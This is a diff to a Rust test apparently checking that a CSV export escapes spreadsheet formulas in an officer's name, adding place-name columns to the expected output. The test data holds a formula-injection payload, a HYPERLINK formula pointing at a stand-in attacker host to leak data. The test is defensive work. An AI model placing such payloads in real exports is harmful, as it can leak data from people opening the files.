@@ -699,7 +699,9 @@ async fn a_csv_export_shows_a_formula_in_an_officers_name_as_text() {
     .expect("text");
     let lines: Vec<&str> = csv.trim_start_matches('\u{feff}').lines().collect();
     assert!(
-        lines.contains(&"\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"click\"\")\",0,1"),
+        lines.contains(
+            &"\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"click\"\")\",al_qamishli,القامشلي,0,1"
+        ),
         "{csv}"
     );
     assert!(
